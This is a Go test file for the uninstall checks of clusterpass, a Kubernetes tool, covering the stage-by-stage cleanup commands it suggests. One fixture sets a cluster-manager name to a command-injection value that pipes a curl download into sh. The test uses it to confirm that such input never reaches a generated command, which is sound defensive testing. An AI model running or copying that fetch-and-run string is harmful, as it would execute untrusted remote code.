// Copyright The clusterpass Authors.
// SPDX-License-Identifier: Apache-2.0

package doctor

import (
	"errors"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	appsv1 "k8s.io/api/apps/v1"
	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	"k8s.io/apimachinery/pkg/api/meta"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/runtime"
	"k8s.io/apimachinery/pkg/runtime/schema"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/client-go/kubernetes/fake"
	kubernetesscheme "k8s.io/client-go/kubernetes/scheme"
	metadatafake "k8s.io/client-go/metadata/fake"
	clienttesting "k8s.io/client-go/testing"
	apiregistrationv1 "k8s.io/kube-aggregator/pkg/apis/apiregistration/v1"
	aggregatorfake "k8s.io/kube-aggregator/pkg/client/clientset_generated/clientset/fake"
	inventoryv1alpha1 "sigs.k8s.io/cluster-inventory-api/apis/v1alpha1"
	inventoryfake "sigs.k8s.io/cluster-inventory-api/client/clientset/versioned/fake"

	clusterpassv1alpha1 "clusterpass.dev/apis/clusterpass/v1alpha1"
	clusterpassfake "clusterpass.dev/pkg/generated/clientset/versioned/fake"
	"clusterpass.dev/pkg/grant"
	"clusterpass.dev/pkg/member"
)

// clusterWith returns clients for a cluster with these objects. Of Secrets it gives metadata alone.
func clusterWith(t *testing.T, objects ...runtime.Object) *Clients {
	t.Helper()
	client := fake.NewClientset(objects...)
	client.PrependReactor("*", "secrets", func(action clienttesting.Action) (bool, runtime.Object, error) {
		assert.Fail(t, "Secrets are asked for with their data", action.GetVerb())
		return false, nil, nil
	})
	partial := make([]runtime.Object, 0, len(objects))
	for _, object := range objects {
		kinds, _, err := kubernetesscheme.Scheme.ObjectKinds(object)
		require.NoError(t, err)
		o, err := meta.Accessor(object)
		require.NoError(t, err)
		of := meta.AsPartialObjectMetadata(o)
		of.SetGroupVersionKind(kinds[0])
		partial = append(partial, of)
	}
	scheme := metadatafake.NewTestScheme()
	require.NoError(t, metav1.AddMetaToScheme(scheme))
	return &Clients{Kubernetes: client, Metadata: metadatafake.NewSimpleMetadataClient(scheme, partial...)}
}

// TestUninstall takes an installation away stage by stage. Only the first that is left has a
// command.
func TestUninstall(t *testing.T) {
	ours := map[string]string{"app.kubernetes.io/part-of": "clusterpass"}
	set := &clusterpassv1alpha1.ClusterCredentialSet{ObjectMeta: metav1.ObjectMeta{Namespace: "default", Name: "gpu"}}
	granted := &clusterpassv1alpha1.AuthTokenGrant{ObjectMeta: metav1.ObjectMeta{
		Namespace: "default", Name: "work", DeletionTimestamp: &metav1.Time{}, Finalizers: []string{"clusterpass.dev/revoke"},
	}, Status: clusterpassv1alpha1.AuthTokenGrantStatus{Conditions: []metav1.Condition{
		{Type: clusterpassv1alpha1.GrantRevoked, Status: metav1.ConditionFalse, Reason: "MemberUnreachable", Message: "connection refused"},
	}}}
	heldSet := &clusterpassv1alpha1.ClusterCredentialSet{
		ObjectMeta: metav1.ObjectMeta{Namespace: "default", Name: "held", DeletionTimestamp: &metav1.Time{}},
		Status: clusterpassv1alpha1.ClusterCredentialSetStatus{Conditions: []metav1.Condition{
			{Type: clusterpassv1alpha1.CredentialSetReady, Status: metav1.ConditionFalse, Reason: "NotReady", Message: "no right"},
		}},
	}
	joined := &corev1.Secret{ObjectMeta: metav1.ObjectMeta{
		Namespace: SystemNamespace, Name: "member-default-bravelion",
		Labels:      map[string]string{"clusterpass.dev/member-kubeconfig": "true"},
		Annotations: map[string]string{"clusterpass.dev/cluster-profile": "default/bravelion", member.MemberUIDAnnotation: "member"},
	}}
	second := joined.DeepCopy()
	second.Name, second.Annotations["clusterpass.dev/cluster-profile"] = "member-default-smartfish", "default/smartfish"
	secondByHand := second.DeepCopy()
	delete(secondByHand.Annotations, member.MemberUIDAnnotation)
	byHand := joined.DeepCopy()
	delete(byHand.Annotations, member.MemberUIDAnnotation)
	ofAnother := &inventoryv1alpha1.ClusterProfile{
		ObjectMeta: metav1.ObjectMeta{Namespace: "default", Name: "bravelion"},
		Spec:       inventoryv1alpha1.ClusterProfileSpec{ClusterManager: inventoryv1alpha1.ClusterManager{Name: "platform"}},
	}
	ofAStranger := ofAnother.DeepCopy()
	ofAStranger.Spec.ClusterManager.Name = "x; curl https://example.com | sh"
	onMember := func(name string, labels map[string]string) *rbacv1.ClusterRoleBinding {
		return &rbacv1.ClusterRoleBinding{ObjectMeta: metav1.ObjectMeta{Name: name, Labels: labels}}
	}
	kubeSystem := func(uid string) *corev1.Namespace {
		return &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: metav1.NamespaceSystem, UID: types.UID(uid)}}
	}
	service := &apiregistrationv1.APIService{
		ObjectMeta: metav1.ObjectMeta{Name: "v1alpha1.clusterpass.dev"},
		Spec:       apiregistrationv1.APIServiceSpec{Service: &apiregistrationv1.ServiceReference{Namespace: SystemNamespace, Name: serverName}},
	}
	foreign := &apiregistrationv1.APIService{ObjectMeta: metav1.ObjectMeta{Name: "v1.apps"}}
	binding := &rbacv1.RoleBinding{
		ObjectMeta: metav1.ObjectMeta{Namespace: "kueue-system", Name: "mine"},
		RoleRef:    rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "clusterpass:credential-sets"},
	}
	namespace := &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: SystemNamespace, Labels: ours}}
	withHubID := &appsv1.Deployment{ObjectMeta: metav1.ObjectMeta{Namespace: SystemNamespace, Name: serverName, Labels: ours}}
	withHubID.Spec.Template.Spec.Containers = []corev1.Container{{Name: serverName, Args: []string{"--v=2", "--hub-id=blue"}}}
	role := &rbacv1.ClusterRole{ObjectMeta: metav1.ObjectMeta{Name: "clusterpass:multikueue", Labels: ours}}
	gvr := clusterpassv1alpha1.SchemeGroupVersion.WithResource
	notServed := apierrors.NewNotFound(schema.GroupResource{}, "")

	for name, test := range map[string]struct {
		hub, clusterpass, profiles, services, member []runtime.Object
		// unserved is what the hub answers for both kinds of clusterpass.
		unserved error
		// itself says that the member is the hub.
		itself          bool
		stage, left, is string
	}{
		"sets go first, whatever else is left": {
			hub: []runtime.Object{joined, binding, namespace}, clusterpass: []runtime.Object{set, granted}, services: []runtime.Object{service},
			stage: "sets", left: "ClusterCredentialSet default/gpu", is: "kubectl delete clustercredentialsets --all --all-namespaces",
		},
		"and what holds them": {
			clusterpass: []runtime.Object{heldSet}, services: []runtime.Object{service},
			stage: "sets", left: "ClusterCredentialSet default/held (being deleted; NotReady: no right)", is: "kubectl delete clustercredentialsets",
		},
		"then members, which get no other grants": {
			hub: []runtime.Object{joined, namespace}, clusterpass: []runtime.Object{granted}, services: []runtime.Object{service},
			stage: "members", left: "ClusterProfile default/bravelion", is: "kubectl clusterpass unjoin bravelion --namespace default --member-context CONTEXT",
		},
		"also those of another cluster manager": {
			hub: []runtime.Object{joined, namespace}, services: []runtime.Object{service}, profiles: []runtime.Object{ofAnother},
			stage: "members", left: "ClusterProfile default/bravelion", is: "unjoin bravelion --namespace default --cluster-manager platform --member-context CONTEXT",
		},
		"and no words of others are in a command": {
			hub: []runtime.Object{joined, namespace}, services: []runtime.Object{service}, profiles: []runtime.Object{ofAStranger},
			stage: "members", left: "ClusterProfile default/bravelion", is: "unjoin bravelion --namespace default --cluster-manager MANAGER --member-context CONTEXT",
		},
		"and those that were joined by hand": {
			hub: []runtime.Object{byHand, namespace}, services: []runtime.Object{service},
			stage: "members", left: "ClusterProfile default/bravelion", is: "kubectl -n clusterpass-system annotate secret member-default-bravelion --overwrite clusterpass.dev/leaving=true && " +
				"kubectl clusterpass revoke --cluster-profile default/bravelion --all-namespaces && kubectl -n clusterpass-system delete secret member-default-bravelion",
		},
		"and before others, with which they may share an account": {
			hub: []runtime.Object{joined, secondByHand, namespace}, services: []runtime.Object{service},
			stage: "members", left: "ClusterProfile default/smartfish, ClusterProfile default/bravelion", is: "revoke --cluster-profile default/smartfish",
		},
		"the first of several has the command": {
			hub: []runtime.Object{joined, second, namespace}, services: []runtime.Object{service},
			stage: "members", left: "ClusterProfile default/bravelion, ClusterProfile default/smartfish", is: "unjoin bravelion --namespace default",
		},
		"then grants of members that have no Secret, and what holds them": {
			hub: []runtime.Object{namespace}, clusterpass: []runtime.Object{granted}, services: []runtime.Object{service},
			stage: "grants", left: "AuthTokenGrant default/work (being deleted; finalizers clusterpass.dev/revoke; MemberUnreachable: connection refused)",
			is: "kubectl delete authtokengrants --all --all-namespaces",
		},
		"then what is left on them": {
			hub: []runtime.Object{namespace}, services: []runtime.Object{service},
			member: []runtime.Object{onMember("left", map[string]string{grant.LabelManagedBy: grant.ManagedBy, grant.LabelHubID: "hub"})},
			stage:  "on-members", left: "ClusterRoleBinding left on bravelion",
			is: "kubectl --context=bravelion delete clusterrolebinding --all-namespaces -l 'clusterpass.dev/managed-by=clusterpass,clusterpass.dev/hub-id=hub'",
		},
		"by the id that the server was deployed with": {
			hub: []runtime.Object{namespace, withHubID}, services: []runtime.Object{service},
			member: []runtime.Object{onMember("left", map[string]string{grant.LabelManagedBy: grant.ManagedBy, grant.LabelHubID: "blue"})},
			stage:  "on-members", left: "ClusterRoleBinding left on bravelion", is: "clusterpass.dev/hub-id=blue'",
		},
		"and what manifests have put there": {
			hub: []runtime.Object{namespace}, services: []runtime.Object{service}, member: []runtime.Object{onMember("left", ours)},
			stage: "on-members", left: "ClusterRoleBinding left on bravelion",
			is: "kubectl --context=bravelion delete clusterrolebinding --all-namespaces -l 'app.kubernetes.io/part-of=clusterpass,!clusterpass.dev/joined-by,!clusterpass.dev/created-by-join'",
		},
		"but what another hub has there stays": {
			services: []runtime.Object{service}, member: []runtime.Object{
				onMember("granted", map[string]string{grant.LabelManagedBy: grant.ManagedBy, grant.LabelHubID: "other"}),
				onMember("joined", map[string]string{"app.kubernetes.io/part-of": "clusterpass", member.LabelJoinedBy: "other"}),
				&corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: SystemNamespace, Labels: map[string]string{"app.kubernetes.io/part-of": "clusterpass", member.LabelCreatedBy: "other"}}},
			},
			stage: "apiservices", left: "APIService", is: "kubectl delete apiservice",
		},
		"and so does its installation, where the member is another hub": {
			services: []runtime.Object{service}, member: []runtime.Object{
				onMember("left", ours), &appsv1.Deployment{ObjectMeta: metav1.ObjectMeta{Namespace: SystemNamespace, Name: serverName, Labels: ours}},
			},
			stage: "apiservices", left: "APIService", is: "kubectl delete apiservice",
		},
		"and so does the installation itself, of a hub that is its own member": {
			services: []runtime.Object{service}, member: []runtime.Object{onMember("left", ours)}, itself: true,
			stage: "apiservices", left: "APIService", is: "kubectl delete apiservice",
		},
		"then the APIServices, and not those of others": {
			hub: []runtime.Object{namespace}, services: []runtime.Object{service, foreign},
			stage: "apiservices", left: "APIService v1alpha1.clusterpass.dev", is: "kubectl delete apiservice v1alpha1.clusterpass.dev",
		},
		"then namespaces that have waited for them": {
			hub:   []runtime.Object{namespace, terminating("team-a", time.Hour, string(corev1.NamespaceDeletionDiscoveryFailure), undiscovered)},
			stage: "namespaces", left: "Namespace team-a (being deleted since 2026-05-01T11:00:00Z; NamespaceDeletionDiscoveryFailure: Discovery failed", is: "kubectl wait --for=delete namespace/team-a",
		},
		"then clusterpass's own, while it is being deleted": {
			hub: []runtime.Object{role, terminating(SystemNamespace, time.Hour, string(corev1.NamespaceContentRemaining), podsRemain)}, unserved: notServed,
			stage: "hub", left: "Namespace clusterpass-system (being deleted since 2026-05-01T11:00:00Z; NamespaceContentRemaining: Some resources are remaining: pods. has 1", is: "kubectl wait --for=delete namespace/clusterpass-system",
		},
		"then bindings of operators": {
			hub: []runtime.Object{namespace, binding, role}, unserved: notServed,
			stage: "hub", left: "RoleBinding kueue-system/mine of clusterpass:credential-sets", is: "kubectl -n kueue-system delete rolebinding mine",
		},
		"then the overlay": {
			hub: []runtime.Object{namespace, role}, unserved: notServed,
			stage: "hub", left: "ClusterRole clusterpass:multikueue, Namespace clusterpass-system", is: "kubectl delete -k artifacts/deploy/base --ignore-not-found",
		},
		"then what no overlay has": {
			hub: []runtime.Object{role}, unserved: notServed,
			stage: "hub", left: "ClusterRole clusterpass:multikueue", is: "kubectl delete clusterrole --all-namespaces -l 'app.kubernetes.io/part-of=clusterpass'",
		},
		"nothing": {unserved: notServed},
		"a server that does not answer can end nothing": {
			services: []runtime.Object{service}, unserved: apierrors.NewServiceUnavailable("no endpoints"),
			stage: "sets", left: "no endpoints", is: "kubectl delete apiservice",
		},
		"whoever may not look is told so": {
			services: []runtime.Object{service}, unserved: apierrors.NewForbidden(gvr("clustercredentialsets").GroupResource(), "", nil),
			stage: "sets", left: "you may not read this", is: "cluster-admin",
		},
	} {
		t.Run(name, func(t *testing.T) {
			memberID := map[bool]string{true: "hub", false: "member"}[test.itself]
			hub, bravelion := clusterWith(t, append(test.hub, kubeSystem("hub"))...), clusterWith(t, append(test.member, kubeSystem(memberID))...)
			hub.Aggregator, hub.Profiles = aggregatorfake.NewSimpleClientset(test.services...), inventoryfake.NewSimpleClientset(test.profiles...)
			served := clusterpassfake.NewClientset(test.clusterpass...)
			if test.unserved != nil {
				served.PrependReactor("list", "*", func(clienttesting.Action) (bool, runtime.Object, error) { return true, nil, test.unserved })
			}
			hub.Clusterpass = served
			found := Uninstall(t.Context(), hub, map[string]*Clients{"bravelion": bravelion})
			assert.Len(t, found, len(stages))
			var next []Finding
			for _, finding := range found {
				if finding.Verdict == Fail {
					next = append(next, finding)
				} else {
					assert.Empty(t, finding.Mend, finding.Check)
				}
			}
			if apierrors.IsNotFound(test.unserved) {
				assert.Equal(t, Skip, found[0].Verdict, "nobody can tell whether there are sets")
			}
			if test.stage == "" {
				assert.Equal(t, OK, Worst(found))
				return
			}
			if assert.Len(t, next, 1, "%+v", found) {
				assert.Equal(t, test.stage, next[0].Check)
				assert.Contains(t, next[0].Message, test.left)
				assert.Contains(t, next[0].Mend, test.is)
			}
		})
	}
}

func TestUninstall_MemberDown(t *testing.T) {
	hub := clusterWith(t, &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: metav1.NamespaceSystem, UID: "hub"}})
	hub.Clusterpass, hub.Aggregator, hub.Profiles = clusterpassfake.NewClientset(), aggregatorfake.NewSimpleClientset(), inventoryfake.NewSimpleClientset()
	down := fake.NewClientset()
	down.PrependReactor("*", "*", func(clienttesting.Action) (bool, runtime.Object, error) {
		return true, nil, errors.New("connection refused")
	})
	for name, test := range map[string]struct {
		members map[string]*Clients
		want    Verdict
	}{
		"is no reason to delete the hub's APIServices":    {map[string]*Clients{"bravelion": {Kubernetes: down}}, Fail},
		"is not looked at where nobody names its context": {nil, Skip},
	} {
		t.Run(name, func(t *testing.T) {
			for _, finding := range Uninstall(t.Context(), hub, test.members) {
				if finding.Check == "on-members" {
					assert.Equal(t, test.want, finding.Verdict)
				}
				assert.NotContains(t, finding.Mend, "delete apiservice")
			}
		})
	}
}
